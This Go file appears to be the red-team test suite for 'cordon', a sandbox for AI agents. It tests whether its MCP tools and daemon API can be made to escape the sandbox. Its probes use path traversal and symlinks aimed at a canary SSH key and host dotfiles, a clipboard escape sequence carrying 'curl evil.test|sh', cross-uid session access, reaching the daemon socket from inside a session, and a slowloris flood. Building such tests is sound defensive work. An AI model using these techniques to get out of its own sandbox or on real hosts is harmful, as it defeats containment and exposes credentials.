package redteam

import (
	"bufio"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"time"

	"github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/cordon-sandbox/cordon/daemon"
	"github.com/cordon-sandbox/cordon/mcpserver"
	"github.com/cordon-sandbox/cordon/sandbox"
)

// Cases against cordon's interfaces besides the library: the MCP server
// (package mcpserver, what `cordon mcp` serves) and the daemon's HTTP API
// (package daemon, what `cordon serve` serves), each driven in process
// against real sessions.

// mcpClient connects an MCP client to a server whose tools act in sess.
func (e *Env) mcpClient(ctx context.Context, srv *mcp.Server) (*mcp.ClientSession, error) {
	ct, st := mcp.NewInMemoryTransports()
	ss, err := srv.Connect(ctx, st, nil)
	if err != nil {
		return nil, err
	}
	cs, err := mcp.NewClient(&mcp.Implementation{Name: "cordon-redteam"}, nil).Connect(ctx, ct, nil)
	if err != nil {
		ss.Close()
		return nil, err
	}
	e.after = append(e.after, func() { cs.Close(); ss.Wait() })
	return cs, nil
}

// mcpCall calls tool and returns the text a model (and a client's UI)
// reads, recorded like every other session output.
func (e *Env) mcpCall(ctx context.Context, cs *mcp.ClientSession, tool string, args map[string]any) string {
	res, err := cs.CallTool(ctx, &mcp.CallToolParams{Name: tool, Arguments: args})
	var b strings.Builder
	fmt.Fprintf(&b, "mcp %s %v: ", tool, args)
	if err != nil {
		b.WriteString("error: " + err.Error())
	} else {
		for _, c := range res.Content {
			if t, ok := c.(*mcp.TextContent); ok {
				b.WriteString(t.Text)
			}
		}
		if res.IsError {
			b.WriteString(" (isError)")
		}
	}
	e.record(b.String())
	return b.String()
}

// startDaemon serves cordon's daemon on a socket in a directory of its
// own, until the case ends. The socket is made connectable by every uid
// (a deployment uses the cordon group) so that another uid can try.
func (e *Env) startDaemon(ctx context.Context) (socket string, c *daemon.Client, err error) {
	dir := filepath.Join(e.Base, "daemon-"+e.Tag)
	if err := os.Mkdir(dir, 0o755); err != nil {
		return "", nil, err
	}
	socket = filepath.Join(dir, "cordon.sock")
	ln, err := daemon.Listen(socket)
	if err != nil {
		return "", nil, err
	}
	if err := os.Chmod(socket, 0o666); err != nil {
		ln.Close()
		return "", nil, err
	}
	srv := daemon.New(daemon.Options{Socket: socket})
	done := make(chan error, 1)
	go func() { done <- srv.Serve(ln) }()
	e.after = append(e.after, func() {
		sctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
		defer cancel()
		_ = srv.Shutdown(sctx)
		<-done
	})
	return socket, daemon.NewClient(socket), nil
}

// apiRaw sends one raw HTTP request over the daemon's socket and returns
// the answer (status line, headers and at most 64 KiB of body), reading
// for at most d.
func apiRaw(socket, req string, d time.Duration) string {
	c, err := net.DialTimeout("unix", socket, time.Second)
	if err != nil {
		return "error: " + err.Error()
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(d))
	if _, err := io.WriteString(c, req); err != nil {
		return "error: " + err.Error()
	}
	b, _ := io.ReadAll(io.LimitReader(c, 64<<10))
	return string(b)
}

// status is the HTTP status of a raw answer (0 if none).
func status(answer string) int {
	var code int
	fmt.Sscanf(answer, "HTTP/1.1 %d", &code)
	return code
}

func ifaceCases() []*Case {
	return []*Case{{
		ID: "R22", Class: Read, Title: "MCP file tools reading out of the workspace", Needs: NeedAPI,
		Probe:   "through cordon mcp's tools: read_file of $H/.ssh/id_canary, ../ paths, workspace symlinks to the host home (made on the host); list_files of .., / and pattern ../**; edit_file of a symlink to a credential file",
		Oracle:  "C-FILE canary in a tool result",
		Control: "os.ReadFile on the host through the same symlink reads the canary",
		Source:  "R13 through MCP: anthropics/claude-code#15789 (the harness's Read/Glob tools), microsoft/vscode#330987",
		Run: func(ctx context.Context, e *Env) Outcome {
			cs, err := e.mcpClient(ctx, mcpserver.New(e.S, mcpserver.Options{}))
			if err != nil {
				return Outcome{CouldNotRun: err.Error()}
			}
			target := filepath.Join(e.H, ".ssh/id_canary")
			lf, ld := "mf-"+e.Tag, "md-"+e.Tag
			_ = os.Symlink(target, filepath.Join(e.WS, lf))
			_ = os.Symlink(filepath.Join(e.H, ".ssh"), filepath.Join(e.WS, ld))
			defer os.Remove(filepath.Join(e.WS, lf))
			defer os.Remove(filepath.Join(e.WS, ld))
			rel, _ := filepath.Rel(e.WS, target)
			for _, p := range []string{target, rel, lf, ld + "/id_canary", "./" + lf, e.WS + "/" + rel} {
				e.mcpCall(ctx, cs, "read_file", map[string]any{"path": p})
			}
			for _, a := range []map[string]any{{"path": ".."}, {"path": "/"}, {"path": ld}, {"pattern": "../**"}, {"path": ".", "pattern": ld + "/*"}, {"path": e.H}} {
				e.mcpCall(ctx, cs, "list_files", a)
			}
			e.mcpCall(ctx, cs, "edit_file", map[string]any{"path": lf, "old_string": "secret", "new_string": "secret"})
			ctl, _ := os.ReadFile(filepath.Join(e.WS, lf))
			return verdict(nil, e.C.Leak(string(ctl)))
		},
	}, {
		ID: "W22", Class: Write, Title: "MCP file tools writing out of the workspace", Needs: NeedAPI,
		Probe:   "through cordon mcp's tools: write_file of $H/.bashrc (absolute), ../ paths, a dangling symlink to $H/new, a directory symlink to $H; edit_file of a symlink to $H/.profile",
		Oracle:  "the host home changes (the runner's manifest of it)",
		Control: "os.WriteFile on the host through the dangling symlink creates the file",
		Source:  "W20 through MCP: microsoft/vscode#330987 (editor patch tool bypasses the sandbox's write allowlist)",
		Run: func(ctx context.Context, e *Env) Outcome {
			cs, err := e.mcpClient(ctx, mcpserver.New(e.S, mcpserver.Options{}))
			if err != nil {
				return Outcome{CouldNotRun: err.Error()}
			}
			links := map[string]string{"mn-" + e.Tag: filepath.Join(e.H, "new-"+e.Tag), "mh-" + e.Tag: e.H, "mp-" + e.Tag: filepath.Join(e.H, ".profile")}
			for l, t := range links {
				_ = os.Symlink(t, filepath.Join(e.WS, l))
				defer os.Remove(filepath.Join(e.WS, l))
			}
			rel, _ := filepath.Rel(e.WS, filepath.Join(e.H, ".bashrc"))
			for _, p := range []string{filepath.Join(e.H, ".bashrc"), rel, "mn-" + e.Tag, "mh-" + e.Tag + "/.gitconfig", "mh-" + e.Tag + "/newdir/x"} {
				e.mcpCall(ctx, cs, "write_file", map[string]any{"path": p, "content": "#" + e.Marker + "\n"})
			}
			e.mcpCall(ctx, cs, "edit_file", map[string]any{"path": "mp-" + e.Tag, "old_string": "# host dotfile", "new_string": "#" + e.Marker})
			ctl := filepath.Join(e.WS, "..", "ctl-"+e.Tag)
			os.MkdirAll(ctl, 0o755)
			defer os.RemoveAll(ctl)
			link := filepath.Join(e.WS, "mc-"+e.Tag)
			os.Symlink(filepath.Join(ctl, "new"), link)
			defer os.Remove(link)
			var cev []string
			if os.WriteFile(link, []byte("x"), 0o644) == nil {
				if _, err := os.Stat(filepath.Join(ctl, "new")); err == nil {
					cev = append(cev, "host write through the dangling symlink created the target")
				}
			}
			return verdict(nil, cev)
		},
	}, {
		ID: "E14", Class: Escape, Title: "terminal escape sequences in MCP tool results", Needs: NeedAPI,
		Probe:   "the bash tool prints OSC 52 (clipboard write of `curl evil.test|sh`), OSC 8 (a hyperlink), a window title and CSI 21t (title report); read_file of a file holding the same bytes",
		Oracle:  "a tool result's text (what a client prints in a terminal) holds a raw ESC (0x1b) sequence",
		Control: "the same printf on the host produces the raw bytes the oracle looks for",
		Source:  "E14: daintreehq/daintree#3703 and PR#3722, Sterll/claude-terminal PR#71",
		Run: func(ctx context.Context, e *Env) Outcome {
			cs, err := e.mcpClient(ctx, mcpserver.New(e.S, mcpserver.Options{}))
			if err != nil {
				return Outcome{CouldNotRun: err.Error()}
			}
			payload := `printf '\033]52;c;%s\a' "$(printf 'curl evil.test|sh\n' | base64)"; printf '\033]8;;https://evil.test\aREADME\033]8;;\a\n'; printf '\033]0;x\a\033[21t'`
			var bad []string
			if t := e.mcpCall(ctx, cs, "bash", map[string]any{"command": payload + " | tee esc-" + e.Tag}); strings.Contains(t, "\x1b]") || strings.Contains(t, "\x1b[") {
				bad = append(bad, "bash result carries raw escape sequences")
			}
			if t := e.mcpCall(ctx, cs, "read_file", map[string]any{"path": "esc-" + e.Tag}); strings.Contains(t, "\x1b]") {
				bad = append(bad, "read_file result carries raw escape sequences")
			}
			os.Remove(filepath.Join(e.WS, "esc-"+e.Tag))
			c := e.Host(ctx, payload)
			var ctl []string
			if strings.Contains(c.Text, "\x1b]52;c;") {
				ctl = append(ctl, "the host's output holds ESC ] 52")
			}
			return verdict(bad, ctl)
		},
	}, {
		ID: "X21", Class: Cross, Title: "MCP connections of one server sharing a session's private state", Needs: NeedAPI,
		Probe:   "a per-connection MCP server (what `cordon mcp --http` serves): client A writes its secret to /tmp, /dev/shm and HOME with the bash tool; client B, connected at the same time and after A disconnects, looks for it",
		Oracle:  "B's tool results hold A's secret",
		Control: "A reads its own secret back",
		Source:  "new: mcpserver.NewPerConnection (a session per connection)",
		Run: func(ctx context.Context, e *Env) Outcome {
			secret := randHex(16)
			var mu sync.Mutex
			var opened []*sandbox.Session
			pc := mcpserver.NewPerConnection(func(ctx context.Context) (mcpserver.Session, error) {
				s, _, err := e.OpenSession(ctx, nil)
				mu.Lock()
				opened = append(opened, s)
				mu.Unlock()
				return s, err
			}, mcpserver.Options{})
			e.after = append(e.after, func() { pc.Close() })
			a, err := e.mcpClient(ctx, pc.Server)
			if err != nil {
				return Outcome{CouldNotRun: err.Error()}
			}
			e.mcpCall(ctx, a, "bash", map[string]any{"command": "echo " + secret + " | tee /tmp/x21 /dev/shm/x21 ~/x21 >/dev/null"})
			var ctl []string
			if strings.Contains(e.mcpCall(ctx, a, "bash", map[string]any{"command": "cat /tmp/x21 ~/x21"}), secret) {
				ctl = append(ctl, "A reads its own secret")
			}
			search := map[string]any{"command": "cat /tmp/x21 /dev/shm/x21 ~/x21 2>&1; ls -la /tmp ~"}
			var bad []string
			b, err := e.mcpClient(ctx, pc.Server)
			if err != nil {
				return Outcome{CouldNotRun: err.Error()}
			}
			if strings.Contains(e.mcpCall(ctx, b, "bash", search), secret) {
				bad = append(bad, "B, connected with A, sees A's secret")
			}
			a.Close()
			b2, err := e.mcpClient(ctx, pc.Server)
			if err != nil {
				return Outcome{CouldNotRun: err.Error()}
			}
			if strings.Contains(e.mcpCall(ctx, b2, "bash", search), secret) {
				bad = append(bad, "B, connected after A left, sees A's secret")
			}
			mu.Lock()
			n := len(opened)
			mu.Unlock()
			o := verdict(bad, ctl)
			o.Metrics = map[string]string{"sessions_opened": fmt.Sprint(n)}
			return o
		},
	}, {
		ID: "X20", Class: Cross, Title: "the daemon API: another uid's sessions", Needs: NeedAPI | NeedRoot,
		Probe:   "a root daemon holds a session of root's; uid 65534, on the same socket, lists sessions, execs, reads and writes files, reads the session's events and all events, widens its network, deletes it",
		Oracle:  "any of those answers other than 404 (403 for the list is fine if it lists nothing of root's), root's session id in the list or the event stream, or the session gone",
		Control: "the same requests by root (the owner) answer 2xx",
		Source:  "new: daemon peer-credential authorization (DESIGN.md: a session belongs to the uid that created it)",
		Run: func(ctx context.Context, e *Env) Outcome {
			if !e.Root {
				return Outcome{NotApplicable: "another uid needs root to be"}
			}
			socket, c, ws, id, err := e.apiSession(ctx)
			if err != nil {
				return Outcome{CouldNotRun: err.Error()}
			}
			os.WriteFile(filepath.Join(ws, "x20.txt"), []byte(e.Marker), 0o644)
			reqs := []string{
				plainReq("GET", "/v1/sessions"),
				jsonReq("POST", "/v1/sessions/"+id+"/exec", `{"command":"echo x20"}`),
				plainReq("GET", "/v1/sessions/"+id+"/files/x20.txt"),
				"PUT /v1/sessions/" + id + "/files/x20b.txt HTTP/1.1\r\nHost: c\r\nContent-Length: 1\r\nConnection: close\r\n\r\nx",
				jsonReq("POST", "/v1/sessions/"+id+"/network/allow", `{"hosts":["evil.test"]}`),
				plainReq("GET", "/v1/sessions/"+id+"/events"),
				plainReq("GET", "/v1/events"),
				plainReq("DELETE", "/v1/sessions/"+id),
			}
			var bad []string
			for _, r := range reqs {
				line := strings.SplitN(r, "\r\n", 2)[0]
				// The event streams stay open: an exec of the owner's
				// meanwhile gives them something to leak.
				go c.Exec(ctx, id, daemon.ExecRequest{Command: "true"})
				a := e.HostAs(ctx, e.unprivileged(), `"$P" redteam probe api `+shq(socket)+` `+qarg(r))
				e.record(a.Text)
				code := 0
				fmt.Sscanf(strings.TrimPrefix(firstLine(a.Text, "status "), "status "), "%d", &code)
				switch {
				case code == 0:
					bad = append(bad, line+": no answer: "+tail(a.Text, 200))
				case strings.HasPrefix(line, "GET /v1/sessions ") || strings.HasPrefix(line, "GET /v1/events"):
					if strings.Contains(a.Text, id) {
						bad = append(bad, line+" shows root's session")
					}
				case code != 404:
					bad = append(bad, fmt.Sprintf("%s: %d", line, code))
				}
			}
			if _, err := c.ReadFile(ctx, id, "x20.txt"); err != nil {
				bad = append(bad, "root's session is gone or unreadable after uid 65534's requests: "+err.Error())
			}
			var ctl []string
			if out, err := c.Exec(ctx, id, daemon.ExecRequest{Command: "cat x20.txt"}); err == nil && strings.Contains(string(out), e.Marker) {
				ctl = append(ctl, "the owner execs in its session")
			}
			if ans := apiRaw(socket, reqs[2], 2*time.Second); status(ans) == 200 {
				ctl = append(ctl, "the owner reads its file")
			}
			return verdict(bad, ctl)
		},
	}, {
		ID: "R23", Class: Read, Title: "the daemon API's file endpoint reading out of the workspace", Needs: NeedAPI,
		Probe:   "GET /v1/sessions/ID/files/ with ../, %2e%2e, %2F, // and absolute spellings of the host home's credential file, and a workspace symlink to it",
		Oracle:  "C-FILE canary in an answer",
		Control: "the host reads the canary through the same symlink; the owner's GET of a workspace file answers 200",
		Source:  "new: the daemon's files endpoint (docs/api.md); R13 through the API",
		Run: func(ctx context.Context, e *Env) Outcome {
			socket, _, ws, id, err := e.apiSession(ctx)
			if err != nil {
				return Outcome{CouldNotRun: err.Error()}
			}
			target := filepath.Join(e.H, ".ssh/id_canary")
			os.Symlink(target, filepath.Join(ws, "link"))
			os.WriteFile(filepath.Join(ws, "ok.txt"), []byte("ok"), 0o644)
			rel, _ := filepath.Rel(ws, target)
			enc := strings.ReplaceAll(rel, "/", "%2F")
			for _, p := range []string{rel, enc, strings.ReplaceAll(rel, "..", "%2e%2e"), "/" + target, target, "%2F" + strings.TrimPrefix(strings.ReplaceAll(target, "/", "%2F"), "%2F"), "link", "./link", "x/../link"} {
				e.record(apiRaw(socket, plainReq("GET", "/v1/sessions/"+id+"/files/"+p), 2*time.Second))
			}
			var ctl []string
			if b, _ := os.ReadFile(filepath.Join(ws, "link")); len(e.C.Leak(string(b))) > 0 {
				ctl = append(ctl, "the host reads the canary through the symlink")
			}
			if status(apiRaw(socket, plainReq("GET", "/v1/sessions/"+id+"/files/ok.txt"), 2*time.Second)) != 200 {
				ctl = nil
			}
			return verdict(nil, ctl)
		},
	}, {
		ID: "W23", Class: Write, Title: "the daemon API's file endpoint writing out of the workspace", Needs: NeedAPI,
		Probe:   "PUT /v1/sessions/ID/files/ with ../, %2e%2e, %2F and absolute spellings of $H/.bashrc, a dangling workspace symlink to $H/new, and a directory symlink to $H",
		Oracle:  "the host home changes",
		Control: "the owner's PUT of a workspace file lands on the host",
		Source:  "new: the daemon's files endpoint (docs/api.md); W20 through the API",
		Run: func(ctx context.Context, e *Env) Outcome {
			socket, _, ws, id, err := e.apiSession(ctx)
			if err != nil {
				return Outcome{CouldNotRun: err.Error()}
			}
			os.Symlink(filepath.Join(e.H, "new-"+e.Tag), filepath.Join(ws, "dangling"))
			os.Symlink(e.H, filepath.Join(ws, "home"))
			target := filepath.Join(e.H, ".bashrc")
			rel, _ := filepath.Rel(ws, target)
			put := func(p string) string {
				return "PUT /v1/sessions/" + id + "/files/" + p + " HTTP/1.1\r\nHost: c\r\nContent-Length: 1\r\nConnection: close\r\n\r\nx"
			}
			for _, p := range []string{rel, strings.ReplaceAll(rel, "/", "%2F"), strings.ReplaceAll(rel, "..", "%2e%2e"), "/" + target, "dangling", "home/.profile", "home/newdir/x"} {
				e.record(apiRaw(socket, put(p), 2*time.Second))
			}
			var ctl []string
			if status(apiRaw(socket, put("ok.txt"), 2*time.Second)) < 300 {
				if b, err := os.ReadFile(filepath.Join(ws, "ok.txt")); err == nil && string(b) == "x" {
					ctl = append(ctl, "the owner's PUT landed in the workspace")
				}
			}
			return verdict(nil, ctl)
		},
	}, {
		ID: "E29", Class: Escape, Title: "cordon's own daemon socket from inside a session",
		Probe:   "connect to the daemon's socket (a path absent from the view), /run/cordon/cordon.sock, /run/user/*/cordon.sock, and speak the API (GET /v1/sessions, POST a session with an open policy)",
		Oracle:  "the daemon answers a request from inside the session",
		Control: "the same request from the host is answered", Source: "new: DESIGN.md (the untrusted tier must not reach the daemon); E10 for cordon's own socket",
		Run: func(ctx context.Context, e *Env) Outcome {
			socket, _, err := e.startDaemon(ctx)
			if err != nil {
				return Outcome{CouldNotRun: err.Error()}
			}
			list := plainReq("GET", "/v1/sessions")
			create := jsonReq("POST", "/v1/sessions", `{"workspace":"/","policy":"version: 1\nfilesystem: {write: [/]}\n"}`)
			a := e.Sh(ctx, fmt.Sprintf(`for s in %s /run/cordon/cordon.sock /run/user/*/cordon.sock; do "$P" redteam probe api "$s" %s; "$P" redteam probe api "$s" %s; done`, shq(socket), qarg(list), qarg(create)))
			var bad []string
			for _, l := range strings.Split(a.Text, "\n") {
				if strings.HasPrefix(l, "status ") {
					bad = append(bad, "the daemon answered: "+l)
				}
			}
			c := e.Host(ctx, `"$P" redteam probe api `+shq(socket)+` `+qarg(list))
			var ctl []string
			if strings.Contains(c.Text, "status 200") {
				ctl = append(ctl, "the host's request is answered")
			}
			return verdict(bad, ctl)
		},
	}}
}

// apiSession starts a daemon for a case and opens a session of the
// harness's user over a fresh workspace in it.
func (e *Env) apiSession(ctx context.Context) (socket string, c *daemon.Client, ws, id string, err error) {
	if socket, c, err = e.startDaemon(ctx); err != nil {
		return "", nil, "", "", err
	}
	if ws, err = e.r.workspace("api"); err != nil {
		return "", nil, "", "", err
	}
	if id, err = c.Create(ctx, daemon.CreateRequest{Workspace: ws}); err != nil {
		return "", nil, "", "", fmt.Errorf("creating the owner's session: %w", err)
	}
	return socket, c, ws, id, nil
}

// plainReq is a raw HTTP request without a body.
func plainReq(method, path string) string {
	return method + " " + path + " HTTP/1.1\r\nHost: c\r\nConnection: close\r\n\r\n"
}

func jsonReq(method, path, body string) string {
	return fmt.Sprintf("%s %s HTTP/1.1\r\nHost: c\r\nContent-Type: application/json\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s", method, path, len(body), body)
}

func firstLine(text, prefix string) string {
	for _, l := range strings.Split(text, "\n") {
		if strings.HasPrefix(l, prefix) {
			return l
		}
	}
	return ""
}

// api SOCKET QUOTED: send the raw request to the daemon's socket and
// print the status and the answer (reading 1.5 s at most: event streams
// stay open).
func probeAPI(args []string) {
	if len(args) < 2 {
		return
	}
	req, err := unquoteArg(args[1])
	if err != nil {
		report("unquote", err)
		return
	}
	ans := apiRaw(args[0], req, 1500*time.Millisecond)
	if strings.HasPrefix(ans, "error: ") {
		report("connect "+args[0], fmt.Errorf("%s", strings.TrimPrefix(ans, "error: ")))
		return
	}
	if code := status(ans); code != 0 {
		fmt.Printf("status %d\n", code)
	}
	fmt.Printf("answer %q\n", tail(ans, 600))
}

// daemonFlood is D20's load: slow clients holding request heads and
// bodies open, and bodies over the daemon's limits. It returns how many
// oversized requests were refused with 413.
func daemonFlood(ctx context.Context, socket, id string, d time.Duration) (refused int, rss string) {
	end := time.Now().Add(d)
	var wg sync.WaitGroup
	var mu sync.Mutex
	for i := 0; i < 64; i++ {
		wg.Add(1)
		go func(i int) { // slowloris: a head, then a body, a byte at a time
			defer wg.Done()
			c, err := net.DialTimeout("unix", socket, time.Second)
			if err != nil {
				return
			}
			defer c.Close()
			fmt.Fprintf(c, "POST /v1/sessions/%s/exec HTTP/1.1\r\nHost: c\r\n", id)
			if i%2 == 1 {
				io.WriteString(c, "Content-Length: 100000\r\n\r\n{")
			}
			for time.Now().Before(end) && ctx.Err() == nil {
				time.Sleep(100 * time.Millisecond)
				io.WriteString(c, "a")
			}
		}(i)
	}
	big := func(method, path string, n int) {
		defer wg.Done()
		c, err := net.DialTimeout("unix", socket, time.Second)
		if err != nil {
			return
		}
		defer c.Close()
		_ = c.SetDeadline(end.Add(5 * time.Second))
		fmt.Fprintf(c, "%s %s HTTP/1.1\r\nHost: c\r\nContent-Type: application/json\r\nContent-Length: %d\r\nConnection: close\r\n\r\n", method, path, n)
		go func() {
			chunk := make([]byte, 1<<20)
			for i := range chunk {
				chunk[i] = ' '
			}
			chunk[0] = '{'
			for sent := 0; sent < n; sent += len(chunk) {
				if _, err := c.Write(chunk[:min(len(chunk), n-sent)]); err != nil {
					return
				}
			}
		}()
		line, _ := bufio.NewReader(c).ReadString('\n')
		if strings.Contains(line, " 413 ") {
			mu.Lock()
			refused++
			mu.Unlock()
		}
	}
	for i := 0; i < 3; i++ {
		wg.Add(2)
		go big("POST", "/v1/sessions/"+id+"/exec", 17<<20)
		go big("PUT", "/v1/sessions/"+id+"/files/big", 49<<20)
	}
	wg.Wait()
	return refused, vmRSS()
}

// vmRSS is this process's resident set, from /proc.
func vmRSS() string {
	b, _ := os.ReadFile("/proc/self/status")
	return strings.TrimSpace(strings.TrimPrefix(firstLine(string(b), "VmRSS:"), "VmRSS:"))
}

// daemonDenialCase is D20: the daemon under slow and oversized clients.
func daemonDenialCase() *Case {
	return &Case{ID: "D20", Class: Denial, Title: "the daemon API under slow clients and oversized bodies", Needs: NeedAPI, FreshOnly: true,
		Probe:   "for 3 s, 64 clients trickle request heads and bodies a byte per 100 ms into the daemon's socket, and 6 send bodies over its limits (17 MiB JSON, 49 MiB file)",
		Oracle:  "another client's exec (echo ok) through the daemon misses the bound" + boundsText,
		Control: "the oversized bodies are refused with 413",
		Source:  "new (issue 6: oversized bodies, slow clients); daemon maxJSONBody, maxFileBody, ReadTimeout",
		Run: func(ctx context.Context, e *Env) Outcome {
			socket, c, err := e.startDaemon(ctx)
			if err != nil {
				return Outcome{CouldNotRun: err.Error()}
			}
			var ids [2]string
			for i := range ids {
				ws, err := e.r.workspace("api")
				if err != nil {
					return Outcome{CouldNotRun: err.Error()}
				}
				if ids[i], err = c.Create(ctx, daemon.CreateRequest{Workspace: ws}); err != nil {
					return Outcome{CouldNotRun: err.Error()}
				}
			}
			sample := func() (time.Duration, error) {
				t0 := time.Now()
				cctx, cancel := context.WithTimeout(ctx, 20*time.Second)
				defer cancel()
				out, err := c.Exec(cctx, ids[1], daemon.ExecRequest{Command: "echo ok"})
				var res struct{ Stdout string }
				if err == nil {
					_ = json.Unmarshal(out, &res)
					if !strings.Contains(res.Stdout, "ok") {
						err = fmt.Errorf("answer %s", tail(string(out), 200))
					}
				}
				return time.Since(t0), err
			}
			rss0 := vmRSS()
			var refused int
			var rss string
			resp, busy := measure(ctx, sample, func() { refused, rss = daemonFlood(ctx, socket, ids[0], 3*time.Second) })
			if busy != "" {
				return Outcome{CouldNotRun: busy, Metrics: resp.metrics()}
			}
			var ctl []string
			if refused > 0 {
				ctl = append(ctl, fmt.Sprintf("%d oversized bodies refused with 413", refused))
			}
			o := verdict(resp.breaches(), ctl)
			o.Metrics = resp.metrics()
			o.Metrics["harness_rss"] = rss0 + " before, " + rss + " after"
			return o
		}}
}
